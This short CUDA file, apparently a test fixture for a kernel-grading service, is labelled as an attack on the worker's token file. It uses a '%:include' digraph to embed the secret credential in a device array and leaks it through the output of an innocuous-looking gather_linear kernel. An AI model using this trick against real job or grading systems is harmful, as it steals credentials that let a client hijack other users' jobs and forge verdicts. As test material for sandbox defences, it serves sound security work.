// Attack: the worker credential, DATA_DIR/worker.token: with it a client can
// lease other clients' jobs and forge verdicts.
// clang-format off
__device__ int leak[] = {
%:include "@DATA_DIR@/worker.token"
};
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = leak[0]; }
